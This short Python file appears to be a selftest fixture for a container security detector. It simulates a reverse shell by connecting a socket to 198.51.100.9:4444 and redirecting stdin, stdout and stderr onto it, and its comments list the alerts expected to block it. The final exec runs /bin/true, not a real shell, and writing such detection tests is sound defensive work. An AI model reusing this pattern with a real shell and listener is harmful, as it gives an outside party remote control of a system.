# A reverse shell: a socket to a listener made the process's stdin, stdout and stderr, then a
# shell. Under --network none the connection never happens; the redirection is still flagged.
# selftest: expect: Redirect STDOUT/STDIN to Network Connection in Container = blocked
# selftest: expect: Outbound connection @ 198.51.100.9:4444 = blocked
import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    s.connect(("198.51.100.9", 4444))
except OSError:
    pass
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/true", ["sh", "-i"])
